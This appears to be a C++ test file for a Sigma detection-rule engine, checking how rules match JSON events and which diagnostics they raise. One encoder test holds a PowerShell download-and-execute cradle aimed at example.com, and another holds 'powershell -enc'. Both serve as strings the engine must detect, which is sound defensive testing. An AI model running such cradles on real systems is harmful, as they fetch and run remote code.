// Corners of Sigma that readers get wrong: executed on events.
#include <array>

#include "quarry/base/text.h"
#include "sigma_support.h"

using namespace quarry;
using test::check;
using test::item;
using test::lines;

namespace {

// The codes of a rule's findings.
std::string codesOf(const std::string& detection) {
  base::Sources sources;
  base::Report report;
  const auto documents = rule::read(
      sources.add("rule.yml", "title: T\nlogsource: {product: aws}\ndetection:\n" + detection), sources, report);
  for (const rule::Document& document : documents)
    if (const auto* rule = std::get_if<rule::Rule>(&document)) rule::lower(*rule, sources, report, test::environment());
  std::string codes;
  for (const base::Diagnostic& finding : report.findings())
    codes += (codes.empty() ? "" : " ") + std::string(finding.def->code);
  return codes;
}

std::string base64(const std::string& bytes) {
  static constexpr std::string_view kLetters = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  std::string out;
  for (std::size_t i = 0; i < bytes.size(); i += 3) {
    std::uint32_t bits = 0;
    for (std::size_t k = 0; k < 3; ++k)
      bits = bits << 8 | (i + k < bytes.size() ? static_cast<unsigned char>(bytes[i + k]) : 0U);
    for (std::size_t k = 0; k < 4; ++k) out += i + k <= bytes.size() ? kLetters[bits >> (18 - 6 * k) & 63] : '=';
  }
  return out;
}

std::string event(const std::string& value) {
  std::string escaped;
  for (const char c : value) {
    if (c == '"' || c == '\\') escaped += '\\';
    escaped += c;
  }
  return R"({"a":")" + escaped + R"("})";
}

}  // namespace

TEST_CASE("keywords of every kind of scalar are looked for in the text of every value") {
  check({
      {lines("    - 4104\n"), {R"({"m":"id 4104."})", R"({"m":4104})", R"({"n":{"o":[41041]}})"}, {R"({"m":410})"}},
      {lines("    - true\n"), {R"({"m":"a TRUE story"})", R"({"m":true})"}, {R"({"m":"tru"})"}},
      {lines("    - 'a*c'\n"), {R"({"m":"xabcx"})"}, {R"({"m":"cba"})"}},
      {lines("    - 'a?c'\n"), {R"({"m":"xabcx"})"}, {R"({"m":"ac"})"}},
      {lines(R"(    - '\x'
)"),
       {R"({"m":"a\\xb"})"},
       {R"({"m":"axb"})"}},
      {lines(R"(    - '50\*'
)"),
       {R"({"m":"50* x"})"},
       {R"({"m":"501"})"}},
      {lines("    '|re|i': 'A.B'\n"), {R"({"m":"xaxbx"})"}, {R"({"m":"ab"})"}},
      {lines("    '|cased': Foo\n"), {R"({"m":"xFoo"})"}, {R"({"m":"xfoo"})"}},
      {lines("    '|contains|all': [one, 'tw*o']\n"), {R"({"m":"one","n":"twxo"})"}, {R"({"m":"one"})"}},
      {"  s: [one]\n  t: {f: x}\n  condition: t and not s\n", {R"({"f":"x"})"}, {R"({"f":"x","m":"one"})"}},
      // The names of fields are no text of the event.
      {lines("    - secret\n"), {R"({"m":"secret"})"}, {R"({"secret":"m"})"}},
  });
  CHECK(codesOf(lines("    - null\n")) == "RULE064");
  CHECK(codesOf(lines("    - ''\n")) == "RULE064");
  CHECK(codesOf(lines("    '|startswith': a\n")) == "RULE077");
  CHECK(codesOf(lines("    '|cidr': 10.0.0.0/8\n")) == "RULE077");
  CHECK(codesOf(lines("    '|hour': 3\n")) == "RULE077");
}

TEST_CASE("lists within lists, and maps among keywords") {
  check({
      {lines("    - [one, two]\n    - a: x\n"), {R"({"m":"one"})", R"({"m":"two"})", R"({"a":"x"})"}, {R"({"m":"x"})"}},
      {lines("    - a: x\n      b: y\n    - c: z\n"), {R"({"a":"x","b":"y"})", R"({"c":"z"})"}, {R"({"a":"x"})"}},
  });
}

TEST_CASE("arrays: some value is enough, unless every one is asked for") {
  check({
      {item("a: y"), {R"({"a":["x","y"]})"}, {R"({"a":["x"]})", R"({"a":[]})"}},
      {item("a|neq: y"), {R"({"a":["x"]})", R"({"a":[]})"}, {R"({"a":["x","y"]})"}},
      {item("a|all: [x, y]"), {R"({"a":["y","x"]})"}, {R"({"a":["x"]})", R"({"a":"x"})"}},
      {item("a|all_elements|startswith: x"), {R"({"a":["x1","x2"]})", R"({"a":"x"})"}, {R"({"a":["x","y"]})", "{}"}},
      {item("a|all_elements|gt: 1"), {R"({"a":[2,3]})"}, {R"({"a":[1,3]})", R"({"a":[]})"}},
      {item("a|cidr: 10.0.0.0/8"), {R"({"a":["x","10.1.1.1"]})"}, {R"({"a":["x"]})"}},
      {item("'a[].b': x"), {R"({"a":[{"b":"q"},{"b":"X"}]})"}, {R"({"a":[{"c":"x"}]})"}},
      {lines("    a[]|any_of:\n      b: x\n      c: y\n"),
       {R"({"a":[{"b":"x","c":"y"}]})"},
       {R"({"a":[{"b":"x"},{"c":"y"}]})"}},
      {lines("    a[]|any_of:\n      b: x\n      c|exists: false\n"),
       {R"({"a":[{"b":"x"},{"c":"y"}]})"},
       {R"({"a":[{"b":"x","c":"y"}]})"}},
      {lines("    a[]|any_of|neq:\n      b: x\n"), {R"({"a":[{"b":"y"}]})", "{}"}, {R"({"a":[{"b":"x"},{"b":"y"}]})"}},
  });
}

TEST_CASE("null, the empty text and absence, alone, in lists and turned round") {
  check({
      {item("a|neq: null"), {R"({"a":""})", R"({"a":0})"}, {R"({"a":null})", "{}"}},
      {item("a|neq: ''"), {R"({"a":"x"})", "{}"}, {R"({"a":""})"}},
      {item("a: [null, '']"), {"{}", R"({"a":""})"}, {R"({"a":"x"})"}},
      {item("a|exists: true"), {R"({"a":false})", R"({"a":["x"]})"}, {R"({"a":null})", R"({"a":[]})"}},
      {item("a: '*'"), {R"({"a":"x"})", R"({"a":""})"}, {R"({"a":null})", "{}"}},
      {item("a: '?'"), {R"({"a":"x"})", R"({"a":7})"}, {R"({"a":""})"}},
      {item("a: ~"), {R"({"a":null})", "{}"}, {R"({"a":"~"})"}},
      {item("a:"), {R"({"a":null})", "{}"}, {R"({"a":"x"})"}},
  });
  CHECK(codesOf(item("a|contains: null")) == "RULE064");
  CHECK(codesOf(item("a|exists: 'true'")) == "RULE064");
  CHECK(codesOf(item("a|exists: [true]")) == "RULE064");
  CHECK(codesOf(item("a|exists: yes")).find("RULE064") != std::string::npos);
}

TEST_CASE("numbers and texts that look like numbers") {
  check({
      {item("a: 5"), {R"({"a":"5"})", R"({"a":5.0})"}, {R"({"a":"5x"})", R"({"a":"05x"})"}},
      {item("a: '5'"), {R"({"a":5})", R"({"a":"5"})"}, {R"({"a":50})"}},
      {item("a: '1*'"), {R"({"a":123})", R"({"a":1})"}, {R"({"a":213})"}},
      {item("a: -1"), {R"({"a":-1})", R"({"a":"-1"})"}, {R"({"a":1})"}},
      {item("a: 1.50"), {R"({"a":1.5})"}, {R"({"a":1.05})"}},
      {item("a|gt: 5"), {R"({"a":"10"})", R"({"a":5.5})"}, {R"({"a":"x"})", R"({"a":"10x"})", R"({"a":null})"}},
      {item("a|lt: -1.5"), {R"({"a":-2})"}, {R"({"a":-1})", R"({"a":""})"}},
      {item("a|gte: 0"), {R"({"a":0})", R"({"a":"0"})"}, {R"({"a":false})", R"({"a":""})"}},
      {item("a|neq|gt: 5"), {R"({"a":5})", "{}", R"({"a":"x"})"}, {R"({"a":6})"}},
  });
  CHECK(codesOf(item("a|gt: '5'")) == "RULE064");
  CHECK(codesOf(item("a|gt: x")) == "RULE064");
  CHECK(codesOf(item("a|gt: [1, 2]")).empty());
  CHECK(codesOf(item("a|contains|gt: 5")) == "RULE063");
}

TEST_CASE("values that YAML 1.1 and 1.2 read differently are told of") {
  for (const char* text : {"yes", "no", "on", "off", "Yes", "NO", "On", "012", "1_000", "12:30", "1:30:00", "0b101",
                           "2024-01-02", "2024-01-02T10:00:00Z", "2024-01-02 10:00:00", "0o17", "1e3", "0x1F"}) {
    CAPTURE(text);
    CHECK(codesOf(item("a: " + std::string(text))) == "RULE076");
    CHECK(codesOf(item("a: [x, " + std::string(text) + "]")) == "RULE076");
    CHECK(codesOf(item("a: '" + std::string(text) + "'")).empty());
  }
  for (const char* text : {"true", "null", "~", "5", "-5", "1.5", "yesno", "1.2.3.4", "v1.0", "1-2-3", "12h", "0",
                           "Null", "fe80::1", "00:1a", "0", "1.0"}) {
    CAPTURE(text);
    CHECK(codesOf(item("a: " + std::string(text))).empty());
  }
}

TEST_CASE("encoders on long texts, at every offset, whatever stands around them") {
  const std::string text = "IEX (New-Object Net.WebClient).DownloadString('http://example.com/\xC3\xA4\xE2\x82\xAC')";
  const std::string rule = lines("    a|base64offset|contains: \"" + text + "\"\n");
  std::string other = text;
  other[20] = 'Q';  // one letter within
  for (const std::string before : {"", "x", "xy", "xyz", "xyz1"})
    for (const std::string after : {"", "q", "qr", "qrs"}) {
      CAPTURE(before);
      CAPTURE(after);
      check({{rule, {event(base64(before + text + after))}, {event(base64(before + other + after))}}});
    }
  std::string wide;
  for (const char c : std::string("powershell -enc")) wide += std::string(1, c) + std::string(1, '\0');
  for (const std::string before : {"", "x", "xy"})
    check(
        {{lines("    a|wide|base64offset|contains: powershell -enc\n"), {event(base64(before + wide))}, {event("x")}}});
  // The mark of utf16 stands at the beginning of what is encoded.
  check({{item("a|utf16|base64: hi"), {event(base64(std::string("\xFF\xFEh\0i\0", 6)))}, {event("aABpAA==")}}});
  // Windash makes its spellings before they are encoded.
  check({{item("a|windash|base64: ' -f'"),
          {event(base64(" -f")), event(base64(" /f")),
           event(base64(" \xE2\x80\x94"
                        "f"))},
          {event(base64(" f"))}}});
}

TEST_CASE("dashes: doubled, many, in the middle of a word, and none at all") {
  check({
      {item("a|contains|windash: '--force'"), {event("x --force"), event("x -/force")}, {event("x force")}},
      {item("a|contains|windash: plain"), {event("a plain text")}, {event("text")}},
      {item("a|contains|windash: 'a-b /c'"), {event("a-b -c"), event("a-b /c")}, {event("a/b /c")}},
      // More options than are written out one by one.
      {item("a|contains|windash: '-a -b -c -d -e'"),
       {event("-a /b -c /d -e"), event("/A \xE2\x80\x93"
                                       "b \xE2\x80\x94"
                                       "c \xE2\x80\x95"
                                       "d /E")},
       {event("-a -b -c -d e"), event("+a -b -c -d -e")}},
      {item("a|contains|windash|cased: '-A -b -c -d -e'"), {event("/A /b /c /d /e")}, {event("/a /b /c /d /e")}},
      {item("a|endswith|windash: '-*x'"), {event("q -123x")}, {event("q 123x")}},
  });
}

TEST_CASE("other fields: with positions, numbers, case, and what is missing") {
  check({
      {item("a|fieldref: b"), {R"({"a":5,"b":"5"})", R"({"a":5,"b":5})"}, {R"({"a":null,"b":null})"}},
      {item("a|fieldref|cased: b"), {R"({"a":"x","b":"x"})"}, {R"({"a":"x","b":"X"})"}},
      {item("a|fieldref: [b, c]"), {R"({"a":"x","b":"q","c":"X"})"}, {R"({"a":"x","b":"q"})"}},
      {item("a|fieldref|contains: b"), {R"({"a":"x.y","b":"."})"}, {R"({"a":"xy","b":"."})", R"({"a":"x"})"}},
      {item("a|fieldref|neq: b"), {R"({"a":"x"})", "{}"}, {R"({"a":"x","b":"X"})"}},
      {item("a.b|fieldref: c.d"), {R"({"a":{"b":"x"},"c":{"d":"x"}})"}, {R"({"a":{"b":"x"},"c":{"d":"y"}})"}},
  });
}

TEST_CASE("networks: single addresses, everything, both versions, and what is none") {
  check({
      {item("a|cidr: 192.0.2.1/32"), {event("192.0.2.1")}, {event("192.0.2.2")}},
      {item("a|cidr: 0.0.0.0/0"), {event("8.8.8.8")}, {event("::1"), event("x"), "{}"}},
      {item("a|cidr: '::/0'"), {event("2001:db8::1")}, {event("8.8.8.8")}},
      {item("a|cidr: 'fe80::/10'"), {event("FE80::1"), event("febf::1")}, {event("fec0::1")}},
      {item("a|cidr|neq: 10.0.0.0/8"), {event("11.1.1.1"), event("x"), "{}"}, {event("10.1.1.1")}},
      {item("a|cidr: 10.0.0.0/31"), {event("10.0.0.1")}, {event("10.0.0.2"), event("10.0.0.1/32")}},
  });
  CHECK(codesOf(item("a|cidr: 10.0.0.1/8")) == "RULE067");
  CHECK(codesOf(item("a|cidr: 10.0.0.0/33")) == "RULE067");
  CHECK(codesOf(item("a|cidr: 10.0.0.0.0/8")) == "RULE067");
  CHECK(codesOf(item("a|cidr: '10.*'")) == "RULE067");
}

TEST_CASE("conditions that look odd and mean what they say") {
  const std::string named =
      "  notify: {f: a}\n  and_then: {g: b}\n  of_them: {h: c}\n  all1: {i: d}\n  1st: {j: e}\n  them-x: {k: f}\n";
  const auto all = [&](const std::string& condition) { return named + "  condition: " + condition + "\n"; };
  check({
      {all("notify and and_then"), {R"({"f":"a","g":"b"})"}, {R"({"f":"a"})"}},
      {all("not notify and of_them"), {R"({"h":"c"})"}, {R"({"f":"a","h":"c"})"}},
      {all("all1 or 1st"), {R"({"i":"d"})", R"({"j":"e"})"}, {R"({"f":"a"})"}},
      {all("1 of all* and 1 of *st"), {R"({"i":"d","j":"e"})"}, {R"({"i":"d"})"}},
      {all("1 of a*n"), {R"({"g":"b"})"}, {R"({"i":"d"})"}},
      {all("them-x"), {R"({"k":"f"})"}, {"{}"}},
      {all("1 of *"), {R"({"k":"f"})"}, {"{}"}},
      {all("not (1 of them)"), {"{}"}, {R"({"k":"f"})"}},
      {all("not not notify"), {R"({"f":"a"})"}, {"{}"}},
      {all("((notify)) or (((1st)))"), {R"({"j":"e"})"}, {"{}"}},
      {all(">\n    notify\n    and and_then"), {R"({"f":"a","g":"b"})"}, {R"({"f":"a"})"}},
      {all("any of all* or notify"), {R"({"i":"d"})", R"({"f":"a"})"}, {R"({"j":"e"})"}},
      {all("notify or and_then and of_them"), {R"({"f":"a"})", R"({"g":"b","h":"c"})"}, {R"({"g":"b"})"}},
      // Names with an underscore in front are in no pattern, and can be named.
      {"  _a: {f: a}\n  b: {g: b}\n  condition: _a and 1 of them\n", {R"({"f":"a","g":"b"})"}, {R"({"g":"b"})"}},
  });
  CHECK(codesOf(all("notify AND all1")) == "RULE073");
  CHECK(codesOf(all("1 of them and nobody")) == "RULE071");
  CHECK(codesOf(all("all of zz*")) == "RULE072");
}

TEST_CASE("regular expressions: all of several, flags in the text, and what is escaped") {
  check({
      {item("a|re|all: ['b', 'c']"), {event("bxc"), event("cb")}, {event("b")}},
      {item("a|re: ['^b', 'c$']"), {event("bx"), event("xc")}, {event("xbx")}},
      {item("a|re|i|s: 'B.C'"), {event("b\nc").replace(7, 1, "\\n")}, {event("bc")}},
      {item(R"(a|re: '\*\?')"), {event("x*?")}, {event("x")}},
      {item(R"(a|re: 'C:\\Users\\[^\\]+\\x')"), {event(R"(C:\Users\me\x)")}, {event(R"(C:\Users\x)")}},
      {item("a|re|neq: 'b'"), {event("x"), "{}"}, {event("b")}},
      {item("a|re: '(?im)^b'"), {R"({"a":"x\nB"})"}, {event("xb")}},
  });
  CHECK(codesOf(item("a|re: '('")) == "RULE066");
  CHECK(codesOf(item("a|re: ''")) == "RULE066");
  CHECK(codesOf(item("a|contains|re: 'b'")) == "RULE063");
}

TEST_CASE("parts of a point in time, in UTC") {
  check({
      {item("t|hour: 20"),
       {R"({"t":"2026-11-25T20:59:59Z"})", R"({"t":"2026-11-25T22:00:00+02:00"})"},
       {R"({"t":"2026-11-25T21:00:00Z"})", R"({"t":"x"})", "{}"}},
      {item("t|hour|gte: 20"), {R"({"t":"2026-11-25 23:10:00"})"}, {R"({"t":"2026-11-25 19:59:59"})", "{}"}},
      {item("t|hour|lt: 6"), {R"({"t":1764043200000})"}, {R"({"t":1764072000})"}},
      {item("t|hour: [22, 23, 0]"), {R"({"t":"2026-11-25T00:30:00Z"})"}, {R"({"t":"2026-11-25T01:30:00Z"})"}},
      {item("t|hour|neq: [22, 23]"), {R"({"t":"2026-11-25T01:30:00Z"})", "{}"}, {R"({"t":"2026-11-25T22:30:00Z"})"}},
      {item("t|minute: 30"), {R"({"t":"2026-11-25T01:30:00Z"})"}, {R"({"t":"2026-11-25T01:31:00Z"})"}},
      {item("t|day: 29"), {R"({"t":"2024-02-29"})"}, {R"({"t":"2024-03-01"})"}},
      {item("t|month: 2"), {R"({"t":"2024-02-29"})"}, {R"({"t":"2024-03-01"})"}},
      {item("t|year|lt: 2025"), {R"({"t":"2024-12-31T23:59:59Z"})"}, {R"({"t":"2025-01-01"})"}},
      // The last days of 2024 are in the first week of 2025 (ISO 8601), and 2020 had 53 weeks.
      {item("t|week: 1"), {R"({"t":"2024-12-30"})", R"({"t":"2025-01-05"})"}, {R"({"t":"2025-01-06"})"}},
      {item("t|week: 53"), {R"({"t":"2021-01-03"})"}, {R"({"t":"2021-01-04"})"}},
  });
  CHECK(codesOf(item("t|hour: 24")) == "RULE064");
  CHECK(codesOf(item("t|hour: 1.5")) == "RULE064");
  CHECK(codesOf(item("t|hour: '20'")) == "RULE064");
  CHECK(codesOf(item("t|month: 0")) == "RULE064");
  CHECK(codesOf(item("t|hour|gte: [1, 2]")) == "RULE064");
  CHECK(codesOf(item("t|gte|hour: 20")) == "RULE063");
  CHECK(codesOf(item("t|contains|hour: 20")) == "RULE063");
  CHECK(codesOf(item("t|hour|all: [1, 2]")) == "RULE063");
}

TEST_CASE("lists that are kept outside the rule hold what the configuration gives them for tests") {
  check({
      {item("a|cidr|lookup: egress"),
       {event("192.0.2.7"), event("2001:db8::9")},
       {event("192.0.3.7"), event("x"), "{}"}},
      {item("a|cidr|lookup|neq: egress"), {event("192.0.3.7"), "{}"}, {event("192.0.2.7")}},
      {item("a|lookup: people"), {event("alice"), event("Bob*")}, {event("bobby"), event("alicex"), "{}"}},
      {item("a|cased|lookup: people"), {event("Alice")}, {event("alice")}},
  });
  CHECK(codesOf(item("a|lookup: nobody")) == "RULE081");
  CHECK(codesOf(item("a|lookup: egress")) == "RULE064");
  CHECK(codesOf(item("a|cidr|lookup: people")) == "RULE064");
  CHECK(codesOf(item("a|contains|lookup: people")) == "RULE063");
  CHECK(codesOf(lines("    '|lookup': people\n")) == "RULE077");
}
